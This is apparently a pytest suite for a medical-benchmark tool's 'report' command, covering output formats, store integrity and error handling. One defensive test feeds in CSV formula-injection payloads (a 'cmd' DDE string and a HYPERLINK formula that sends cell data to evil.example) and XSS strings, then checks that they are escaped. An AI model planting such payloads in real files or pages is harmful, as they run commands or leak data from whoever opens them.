"""`medhelm-local report` as a user runs it: every format from real encrypted stores, the store untouched,
and every bad input a clear error with a non-zero exit."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
from pathlib import Path

import pytest
from conftest import REPO, run_cli
from support import report_store
from support.report_store import FakeRun, Rating, write_store

from medhelm_local.store.database import open_store
from medhelm_local.store.keys import Kek, write_new_kek
from medhelm_local.store.schema import SCHEMA_VERSION

V1 = REPO / "tests" / "data" / "stores" / "v1"
RUNS = [FakeRun("local/big_model", "pubmed_qa", 120, accuracy=0.8, failed=4, seed=1),
        FakeRun("local/small", "pubmed_qa", 120, accuracy=0.4, failed=1, unscored=2, seed=2),
        FakeRun("local/big_model", "medication_qa", 30, values=[0.6] * 30, seed=3,
                ratings=lambda i: [Rating("judge-a", {"accuracy": 4, "clarity": 5}, "Accurate <b>and</b> clear."),
                                   Rating("judge-b", None, error_type="unparseable")]),
        FakeRun("local/small", "medication_qa", 30, values=[0.3] * 30, seed=4)]


def _fingerprint(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir()) if p.is_file()}


@pytest.fixture
def results(tmp_path: Path, kek: Kek) -> Path:
    folder = tmp_path / "results"
    write_store(folder / "ward.duckdb", kek, "ward", RUNS)
    return folder


def _report(results: Path, kek_file: Path, *args: str) -> tuple[int, str, str]:
    done = run_cli("report", "--output", str(results), *args, env={"MEDHELM_KEK_FILE": str(kek_file)})
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, done.stdout, done.stderr


def test_json_csv_markdown_and_latex_hold_the_same_leaderboard(results: Path, kek_file: Path) -> None:
    before = _fingerprint(results)
    code, out, err = _report(results, kek_file, "ward", "--format", "json")
    assert code == 0, err
    data = json.loads(out)
    rows = data["leaderboard"]["rows"]
    assert [r["model"] for r in rows] == ["local/big_model", "local/small"]
    win_rate = rows[0]["win_rate"]
    assert (win_rate["value"], win_rate["columns"]) == (1.0, 2) and rows[0]["n_failed"] == 4
    assert win_rate["ci_low"] <= 1.0 <= win_rate["ci_high"] == 1.0  # the mean win rate's bootstrap interval
    cell = rows[0]["cells"]["pubmed_qa.exact_match"]
    assert cell["n"] == 120 and cell["n_scored"] == 116 and cell["n_failed"] == 4
    assert cell["ci_low"] < cell["value"] < cell["ci_high"]
    assert [c["model"] for c in data["comparisons"]] == ["local/small", "local/small"]
    code, out, err = _report(results, kek_file, "ward", "--format", "csv")
    assert code == 0, err
    table = list(csv.DictReader(io.StringIO(out)))
    main = {(r["model"], r["benchmark"]): r for r in table if r["main"] == "True"}
    assert float(main[("local/big_model", "pubmed_qa")]["value"]) == pytest.approx(cell["value"])
    assert main[("local/small", "pubmed_qa")]["n_failed"] == "3"  # 1 failed request + 2 unscorable answers
    code, out, err = _report(results, kek_file, "--format", "md")
    assert code == 0 and "| local/big_model | 1.000 [1.000, 1.000] (2 cols) |" in out, err
    latex = results.parent / "paper" / "table.tex"
    code, out, err = _report(results, kek_file, "--format", "latex", "--out", str(latex))
    assert code == 0 and out == "", err
    tex = latex.read_text()
    assert r"\begin{tabular}" in tex and r"local/big\_model" in tex and r"\textbf{" in tex
    assert _fingerprint(results) == before  # nothing in the store's folder changed


FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_csv_cells_a_spreadsheet_would_run_are_text_and_markdown_carries_no_html(
        tmp_path: Path, kek: Kek, kek_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 29, finding 8: `report --format csv` wrote `=1+1`, `@SUM(1+1)` and a display name `=HYPERLINK(...)`
    raw, so a spreadsheet ran them; `--format md` passed `<script>` through. Genuine negative numbers stay
    numbers."""
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"details")'
    monkeypatch.setitem(report_store.BENCHMARKS, "pubmed_qa", {**report_store.BENCHMARKS["pubmed_qa"],
                                                                "display_name": hyperlink})
    runs = [FakeRun(name, "pubmed_qa", 10, accuracy=0.5, seed=i, extra_metrics={"drift": lambda i: -0.25})
            for i, name in enumerate([*FORMULAS, "<script>alert(1)</script>[x](javascript:alert(1))"])]
    results = tmp_path / "results"
    write_store(results / "hostile.duckdb", kek, "hostile", runs)
    written = tmp_path / "report.csv"  # a file, as a spreadsheet opens it (a pipe in text mode turns CR into LF)
    code, out, err = _report(results, kek_file, "--format", "csv", "--out", str(written))
    assert code == 0, err
    with written.open(newline="") as fh:
        table = list(csv.DictReader(fh))
    assert {r["model"] for r in table} >= {"'" + f for f in FORMULAS}
    assert {r["benchmark_name"] for r in table} == {"'" + hyperlink}
    for row in table:
        for field, text in row.items():
            assert not text.startswith(("=", "+", "@", "\t", "\r")), (field, text)
            assert not text.startswith("-") or float(text) < 0, (field, text)  # only numbers may start with -
    assert {float(r["value"]) for r in table if r["metric"] == "drift"} == {-0.25}  # still a number
    code, out, err = _report(results, kek_file, "--format", "md")
    assert code == 0, err
    assert "<script>" not in out and "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "[x](javascript" not in out and "\\[x\\](javascript:alert(1))" in out
    assert "+cmd\\|' /C calc'!A0" in out  # the pipe cannot end the table cell early


def test_the_html_report_is_a_folder_with_no_address_outside_it(results: Path, kek_file: Path) -> None:
    out = results.parent / "report"
    code, stdout, err = _report(results, kek_file, "ward", "--out", str(out), "--instances", "50")
    assert code == 0, err
    assert "index.html" in stdout
    names = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert {"index.html", "taxonomy.html", "compare.html", "methods.html", "plots/heatmap.svg", "assets/style.css",
            "assets/instances.js", "report.json", "report.csv"} <= names
    run = "pubmed_qa-local_big_model-ward"
    assert {f"runs/{run}.html", f"data/{run}/page-00001.js", f"data/{run}/failed-00001.js"} <= names
    assert f"data/{run}/page-00002.js" not in names  # --instances 50: one page of 50
    assert "the first 50 of 120 instances" in (out / "runs" / f"{run}.html").read_text()
    for path in out.rglob("*"):
        if path.is_file():
            text = re.sub(r'xmlns(:xlink)?="http://www\.w3\.org/(2000/svg|1999/xlink)"', "", path.read_text())
            assert not re.search(r"(https?:)?//[a-z0-9]", text, re.I), f"an address in {path.name}"
    judged = (out / "data" / "medication_qa-local_big_model-ward" / "page-00001.js").read_text()
    assert "Accurate <b>and</b> clear." in judged and "unparseable" in judged  # data; the page writes it as text
    page = (out / "runs" / "medication_qa-local_big_model-ward.html").read_text()
    assert "judge-b" in page and "unparseable: 30" in page
    # Written again over itself: an earlier report is replaced.
    code, _, err = _report(results, kek_file, "ward", "--out", str(out))
    assert code == 0, err


def test_a_suite_with_no_runs_is_a_clear_error(results: Path, kek_file: Path, kek: Kek) -> None:
    open_store(results / "empty.duckdb", kek, create=True).close()
    code, _, err = _report(results, kek_file, "empty", "--format", "md")
    assert code == 2 and "the suite store has no runs" in err and "empty.duckdb" in err


def test_stores_of_two_schema_versions_are_refused_and_left_as_they_were(tmp_path: Path) -> None:
    folder = tmp_path / "results"
    shutil.copytree(V1, folder)
    kek_file = folder / "kek"
    kek_file.chmod(0o600)  # a git checkout makes it 0644, which the program refuses for a key file
    kek = Kek(bytes.fromhex(kek_file.read_text().strip()), "fixture")
    write_store(folder / "new.duckdb", kek, "new", RUNS[:1])
    before = _fingerprint(folder)
    code, _, err = _report(folder, kek_file, "--store", str(folder / "v1fixture.duckdb"), "--store",
                           str(folder / "new.duckdb"), "--format", "json")
    assert code == 2 and "different schema versions" in err
    assert "version 1" in err and f"version {SCHEMA_VERSION}" in err
    assert "runs list --store" in err
    assert _fingerprint(folder) == before  # never migrated by a report
    assert not list(folder.glob("*.bak"))


def test_unreadable_stores_are_clear_errors(results: Path, kek_file: Path, tmp_path: Path) -> None:
    (results / "noise.duckdb").write_bytes(os.urandom(4096))
    code, _, err = _report(results, kek_file, "noise", "--format", "md")
    assert code == 2 and "not a DuckDB database" in err
    other = tmp_path / "other.kek"
    write_new_kek(other)
    code, _, err = _report(results, other, "ward", "--format", "md")
    assert code == 2 and "another key-encryption key" in err
    code, _, err = _report(results, kek_file, "nosuch", "--format", "md")
    assert code == 2 and "no store for suite 'nosuch'" in err and "ward" in err


def test_a_page_damaged_where_only_the_report_reads_it_exits_4_as_documented(tmp_path: Path, kek: Kek,
                                                                           kek_file: Path) -> None:
    """Issue 29, finding 8: a damaged page gave exit 2 in `report`, not the documented 4 (StoreCorruptError)."""
    import duckdb

    from medhelm_local.report import open_sources

    results = tmp_path / "results"
    store = results / "ward.duckdb"
    write_store(store, kek, "ward", [FakeRun("local/a", "pubmed_qa", 300, seed=1),
                                     FakeRun("local/b", "pubmed_qa", 300, seed=2)])
    pristine = store.read_bytes()
    for offset in range(len(pristine) - 16384 + 100, 0, -16384):  # pages read late: the runs' scores
        store.write_bytes(pristine[:offset] + bytes(range(64)) + pristine[offset + 64:])
        try:
            sources = open_sources([store], kek)
        except duckdb.Error:
            continue
        try:
            sources.report(None)
        except duckdb.Error:
            break  # opens, and fails only while the report is built
        finally:
            sources.close()
    else:
        pytest.fail("no page of the store fails only while the report is built")
    code, _, err = _report(results, kek_file, "ward", "--format", "json")
    assert code == 4 and "the store is damaged" in err and str(store) in err and "backup" in err


def test_one_run_in_two_stores_is_refused(results: Path, kek_file: Path) -> None:
    for suffix in ("", ".key"):
        shutil.copy(results / f"ward.duckdb{suffix}", results / f"copy.duckdb{suffix}")
    code, _, err = _report(results, kek_file, "ward", "copy", "--format", "md")
    assert code == 2 and "is in two stores" in err and "store merge" in err


@pytest.mark.parametrize(("args", "words"), [
    (["ward"], "an HTML report is a folder"),
    (["ward", "--format", "pdf"], "is not a report format"),
    (["ward", "--format", "md", "--instances", "many"], "not a number of instances"),
    (["ward", "--format", "md", "--baseline", "local/none"], "the baseline 'local/none' has no runs"),
])
def test_bad_options_are_clear_errors(results: Path, kek_file: Path, args: list[str], words: str) -> None:
    code, _, err = _report(results, kek_file, *args)
    assert code == 2 and words in err


def test_a_folder_that_is_not_an_earlier_report_is_never_overwritten(results: Path, kek_file: Path) -> None:
    keep = results.parent / "notes"
    keep.mkdir()
    (keep / "mine.txt").write_text("do not delete")
    code, _, err = _report(results, kek_file, "ward", "--out", str(keep))
    assert code == 2 and "not an earlier report" in err
    assert (keep / "mine.txt").read_text() == "do not delete" and [p.name for p in keep.iterdir()] == ["mine.txt"]


def test_a_text_report_onto_a_symlink_is_refused(results: Path, kek_file: Path) -> None:
    """Issue 29, finding 8 (outputs that are not regular files), for `report --out` of a text format."""
    target = results.parent / "elsewhere.md"
    target.write_text("keep me\n")
    link = results.parent / "report.md"
    link.symlink_to(target)
    code, _, err = _report(results, kek_file, "ward", "--format", "md", "--out", str(link))
    assert code == 2 and "the output path is a symbolic link" in " ".join(err.split())
    assert link.is_symlink() and target.read_text() == "keep me\n"


def test_other_commands_never_load_the_report_stack() -> None:
    import subprocess
    import sys

    probe = ("import sys, medhelm_local.cli.main; print(sorted(m for m in sys.modules if m.startswith("
             "('medhelm_local.report', 'jinja2', 'starlette', 'uvicorn', 'matplotlib'))))")
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and done.stdout.strip() == "[]", done.stdout + done.stderr


def test_a_report_on_thousands_of_long_notes_gives_duckdb_room_to_read_them(tmp_path: Path, kek: Kek,
                                                                           kek_file: Path) -> None:
    # DuckDB reads a text column 2,048 values at a time; the instance pages join several such columns. 2,100
    # notes of 30 KB could not be read under the report's default 256 MB ("failed to allocate data of size ...").
    note = "Invented progress note, day by day. " * 850  # ~30 KB
    results = tmp_path / "results"
    write_store(results / "notes.duckdb", kek, "notes",
                [FakeRun("local/m", "aci_bench", 2_100, values=[0.5] * 2_100, prompt=lambda i: f"{note}{i}")])

    code, _, err = _report(results, kek_file, "--out", str(tmp_path / "site"))

    assert code == 0, err
    pages = [p for p in (tmp_path / "site").rglob("*") if p.is_file() and note[:60].encode() in p.read_bytes()]
    assert pages, "the instance pages hold the notes"
